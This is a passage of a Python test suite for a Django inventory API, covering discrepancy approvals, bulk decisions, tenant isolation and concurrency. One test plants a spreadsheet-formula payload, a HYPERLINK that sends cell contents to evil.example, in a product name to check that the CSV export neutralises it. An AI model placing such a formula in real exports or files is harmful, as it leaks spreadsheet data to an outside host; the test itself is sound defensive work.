    response = approve(boss, d.pk)
    assert 400 <= response.status_code < 500, response.content
    assert stock_state() == before


def test_approval_after_the_store_was_archived_is_refused_cleanly(
    org, store, stocked, sf, manager, boss
):
    (d,) = pending(manager, store, line(stocked, sf, -5))
    type(store).objects.filter(pk=store.pk).update(is_active=False)
    before = stock_state()
    response = approve(boss, d.pk)
    assert response.status_code < 500, response.content
    assert stock_state() == before or response.status_code == 200
    assert_invariants()


def test_a_put_without_a_category_does_not_turn_a_policy_into_the_default(org, client_for):
    """PUT {units, percent} on the Edibles policy silently made it the default policy (the
    serializer filled category "" in): Edibles lost its policy, or the PUT was a confusing 409
    when a default existed. Left out, the category stays; a new policy without one is the
    default."""
    admin = client_for(A)
    edibles = admin.post(
        f"{BASE}/policies", {"category": "Edibles", "units": "1", "percent": "1"}, format="json"
    ).json()
    response = admin.put(
        f"{BASE}/policies/{edibles['id']}", {"units": "3", "percent": "3"}, format="json"
    )
    assert response.status_code == 200, response.content
    assert response.json()["category"] == "Edibles"
    default = admin.post(f"{BASE}/policies", {"units": "2", "percent": "2"}, format="json")
    assert default.status_code == 201 and default.json()["category"] == ""
    response = admin.put(
        f"{BASE}/policies/{edibles['id']}", {"units": "4", "percent": "4"}, format="json"
    )
    assert response.status_code == 200, response.content
    assert sorted(VariancePolicy.objects.values_list("category", "units")) == [
        ("", D(2)),
        ("Edibles", D(4)),
    ]


def test_detail_of_a_pending_correction_shows_its_request(org, store, stocked, sf, manager, boss):
    (d,) = pending(manager, store, line(stocked, sf, -5))
    body = boss.get(f"{BASE}/{d.pk}").json()
    assert body["source_document"]["details"]["status"] == "pending"
    assert approve(boss, d.pk).status_code == 200
    body = boss.get(f"{BASE}/{d.pk}").json()
    assert [r["qty_delta"] for r in body["ledger_rows"]] == ["-5.0000"]


# --- batch 3 (probes) -------------------------------------------------------------------------


@pytest.mark.parametrize("body", ["[]", "null", '"approve"', "1", '{"notes": {"a": 1}}', "{"])
def test_decision_bodies_that_are_not_objects_are_400(org, client_for, body):
    ids = build_world(org)
    manager = client_for(M)
    before = api_written()
    for path in (f"{BASE}/{ids['approve']}/approve", f"{BASE}/bulk"):
        response = manager.post(path, data=body, content_type="application/json")
        assert response.status_code == 400, (path, body, response.content)
        assert response.json()["code"] in ("invalid", "parse_error")
    assert api_written() == before


def test_a_huge_decision_body_is_413(org, client_for):
    ids = build_world(org)
    manager = client_for(M)
    response = manager.post(
        f"{BASE}/bulk",
        data='{"action": "review", "ids": [' + ",".join(["1"] * 700_000) + "]}",
        content_type="application/json",
    )
    assert response.status_code in (400, 413), response.content[:200]
    assert Discrepancy.objects.get(pk=ids["bulk"]).status == Status.NEW


def test_a_line_spanning_lots_posts_and_links_every_row(org, store, gum, sf, manager, boss):
    receive(org, store, gum, 1, lot="OLD", cost="2")
    receive(org, store, gum, 99, lot="NEW", cost="2")
    response = adjust(manager, store, line(gum, sf, -2), line(gum, loc(store, "BR"), 1))
    assert response.status_code == 201, response.content
    for d in Discrepancy.objects.all():
        assert_posted(d)
    assert Discrepancy.objects.get(document_line=1).posted_quantity == -2
    (d,) = pending(manager, store, line(gum, sf, -20))
    assert approve(boss, d.pk).status_code == 200
    assert_posted(d)
    assert on_hand(gum) == 79


def test_bulk_approval_of_many_pending_lines_posts_each_once(
    org, store, stocked, sf, br, manager, boss
):
    ds = pending(manager, store, *[line(stocked, sf, -3) for _ in range(5)], line(stocked, br, 7))
    ids = [d.pk for d in ds]
    body = boss.post(f"{BASE}/bulk", {"action": "approve", "ids": ids + ids}, format="json").json()
    assert sorted(r["id"] for r in body["decided"]) == sorted(ids)
    for d in ds:
        assert_posted(d)
    assert on_hand(stocked) == 100 - 15 + 7
    assert CorrectionRequest.objects.get().status == CorrectionStatus.DECIDED


def test_bulk_on_an_archived_discrepancy_answers_as_one_at_a_time(org, store, client_for):
    """An archived discrepancy is closed: approving it alone is 409 invalid_state, and so is
    it in a selection (it was listed as not_found there). Another store's archived one stays
    not found for a store-limited manager."""
    from tests.discrepancies.test_api import archive

    ids = build_world(org)
    admin = client_for(A)
    assert admin.post(f"{BASE}/{ids['reject']}/reject", {}, format="json").status_code == 200
    archive(ids["reject"])
    refused(admin.post(f"{BASE}/{ids['reject']}/approve", {}, format="json"), 409, "invalid_state")
    limited = client_for(M, stores=[StoreFactory(org=org, code="ELSE")])
    before = api_written()
    body = admin.post(
        f"{BASE}/bulk", {"action": "approve", "ids": [ids["reject"]]}, format="json"
    ).json()
    assert [(r["id"], r["code"]) for r in body["refused"]] == [(ids["reject"], "invalid_state")]
    body = limited.post(
        f"{BASE}/bulk", {"action": "approve", "ids": [ids["reject"]]}, format="json"
    ).json()
    assert [(r["id"], r["code"]) for r in body["refused"]] == [(ids["reject"], "not_found")]
    assert api_written() == before


@pytest.mark.parametrize("category", [" Edibles", "Edibles ", " ", "\u00a0Edibles"])
def test_a_policy_category_with_spaces_at_either_end_is_refused(org, client_for, category):
    """Products' categories never start or end with a space (the catalogue trims them), so
    such a policy would silently judge nothing; ' ' would look like the default and not be."""
    admin = client_for(A)
    product = admin.post(
        "/api/v1/products",
        {"sku": "P-1", "name": "Gummies", "unit": "each", "category": category},
        format="json",
    )
    assert product.status_code == 201, product.content
    assert product.json()["category"] == category.strip()
    response = admin.post(
        f"{BASE}/policies", {"category": category, "units": "1", "percent": "1"}, format="json"
    )
    refused(response, 400, "invalid", "category")
    assert not VariancePolicy.objects.exists()


def test_another_orgs_token_naming_our_organisation_sees_nothing_of_ours(
    org, other_org, client_for
):
    ours = build_world(org)
    rival = client_for(A, organisation=other_org)
    before = api_written()
    for kwargs in ({"HTTP_X_ORGANIZATION": org.slug}, {}):
        for path in (f"{BASE}/{ours['detail']}", f"{BASE}/{ours['detail']}?org={org.slug}"):
            response = rival.get(path, **kwargs)
            assert response.status_code in (400, 403, 404), response.content
        response = rival.post(
            f"{BASE}/bulk", {"action": "approve", "ids": [ours["bulk"]]}, format="json", **kwargs
        )
        assert response.status_code in (200, 403), response.content
        if response.status_code == 200:
            assert response.json()["decided"] == []
        response = rival.get(f"{BASE}?store={ours['store']}", **kwargs)
        assert response.status_code in (403, 404), response.content
    assert api_written() == before


def test_an_approval_refused_for_stock_succeeds_once_the_stock_is_back(
    org, store, stocked, sf, manager, boss
):
    (d,) = pending(manager, store, line(stocked, sf, -30))
    documents.write_off_record(
        org=org,
        store=store,
        lines=[documents.WriteOffLineInput(stocked, sf, D(90))],
        write_off_type="waste",
        client_ref=ref(),
        reason="flood",
    )
    refused(approve(boss, d.pk), 409, "insufficient_stock")
    body = boss.post(f"{BASE}/bulk", {"action": "approve", "ids": [d.pk]}, format="json").json()
    assert [(r["id"], r["code"]) for r in body["refused"]] == [(d.pk, "insufficient_stock")]
    receive(org, store, stocked, 50, cost="2")
    response = approve(boss, d.pk)
    assert response.status_code == 200, response.content
    assert_posted(d)
    assert on_hand(stocked) == 30


@pytest.mark.django_db(transaction=True)
def test_two_pending_shortages_approved_at_once_never_take_more_than_there_is(org, store, gum):
    receive(org, store, gum, 100, cost="2")
    clerk = MembershipFactory(org=org, role=Role.MANAGER).user
    admins = [MembershipFactory(org=org, role=Role.ADMIN).user for _ in range(2)]
    ids = []
    for client_ref in ("first", "second"):
        answer = correction_request(
            org=org,
            store=store,
            kind=DocumentKind.ADJUSTMENT,
            lines=[documents.AdjustmentLineInput(gum, loc(store, "SF"), D(-60))],
            client_ref=client_ref,
            reason="count",
            tenant=resolve_tenant(clerk, org_id=org.pk),
            actor=clerk,
        )
        assert not answer.posted
        ids.append(answer.discrepancies[0].pk)

    def approver(user, pk):
        def work():
            tenant = resolve_tenant(user, org_id=org.pk)
            return discrepancies_decide(
                org=org, ids=[pk], decision=Decision("approve"), tenant=tenant, actor=user
            )

        return work

    results = together(org, [approver(admins[0], ids[0]), approver(admins[1], ids[1])])
    assert [error for _, error in results] == [None, None], results
    outcomes = [outcome for outcome, _ in results]
    assert sorted(len(o.decided) for o in outcomes) == [0, 1]
    assert sorted(e.code for o in outcomes for _, e in o.refused) == ["insufficient_stock"]
    assert on_hand(gum) == 40
    posted = Discrepancy.objects.get(status=Status.ADJUSTED)
    assert_posted(posted)
    assert Discrepancy.objects.exclude(pk=posted.pk).get().status == Status.NEW


def test_lines_at_one_place_record_what_the_place_held_before_each(
    org, store, stocked, sf, br, manager
):
    """Two lines of -1 at the shelf of 100: the second found 99, not 100 (it recorded
    expected 100 / actual 99 twice, while the shelf went to 98)."""
    response = adjust(
        manager, store, line(stocked, sf, -1), line(stocked, br, 1), line(stocked, sf, -1)
    )
    assert response.status_code == 201, response.content
    rows = Discrepancy.objects.order_by("document_line")
    assert [(d.expected, d.actual, d.store_on_hand) for d in rows] == [
        (D(100), D(99), D(100)),
        (D(0), D(1), D(99)),
        (D(99), D(98), D(100)),
    ]
    assert on_hand(stocked, sf) == 98
    for d in rows:
        assert_posted(d)


def test_the_analytics_csv_does_not_hand_a_spreadsheet_formulas(org, store, client_for):
    """A product named (or categorised) like a formula is text in the CSV, not a formula a
    spreadsheet runs when an admin opens the export; figures stay numbers."""
    from django.utils import timezone

    evil = ProductFactory(
        org=org,
        sku="EVIL",
        name='=HYPERLINK("http://evil.example/?"&A1,"open")',
        category="@SUM(1+1)",
        default_cost=D("1"),
    )
    record(org, store, evil, expected="10", actual="6")
    today = timezone.now().date().isoformat()
    response = client_for(A).get(f"{BASE}/analytics?from={today}&to={today}&format=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    product = next(r for r in rows if r["section"] == "top_product")
    assert product["name"] == "'" + evil.name and product["category"] == "'@SUM(1+1)"
    assert product["abs_variance"] == "4.0000" and product["sku"] == "EVIL"
    for row in rows:
        for column, value in row.items():
            assert not (value or "").startswith(("=", "+", "@", "\t", "\r")), (column, value)


@pytest.mark.parametrize("verb", ["reject", "review"])
def test_a_mode_on_a_reject_or_review_is_refused_as_in_bulk(org, client_for, verb):
    """Bulk refuses a mode on anything but an approval; one at a time it was silently
    ignored."""
    ids = build_world(org)
    manager = client_for(M)
    before = api_written()
    refused(
        manager.post(f"{BASE}/{ids[verb]}/{verb}", {"mode": "set_counted"}, format="json"),
        400,
        "invalid",
        "mode",
    )
    assert api_written() == before
    assert (
        manager.post(f"{BASE}/{ids[verb]}/{verb}", {"mode": None}, format="json").status_code == 200
    )


@pytest.mark.django_db(transaction=True)
def test_three_identical_pending_http_requests_at_once_make_one_request(org, store, gum):
    receive(org, store, gum, 100, cost="2")
    from rest_framework.test import APIClient

    from inventory.tenancy.tokens import api_token_create

    membership = MembershipFactory(org=org, role=Role.MANAGER)
    _, key = api_token_create(org=org, user=membership.user, name="tablet")
    body = {
        "store": store.pk,
        "client_ref": "tablet-pending",
        "reason": "count",
        "lines": [line(gum, loc(store, "SF"), -30)],
    }

    def post():
        client = APIClient()
        client.credentials(HTTP_AUTHORIZATION=f"Token {key}")
        response = client.post(ADJUSTMENTS, body, format="json")
        return response.status_code, response.json()

    results = together(org, [post, post, post])
    assert [status for (status, _), _ in results] == [202, 202, 202], results
    assert len({answer["request"]["id"] for (_, answer), _ in results}) == 1
    assert CorrectionRequest.objects.count() == 1 and Discrepancy.objects.count() == 1
    assert on_hand(gum) == 100
    assert_invariants()
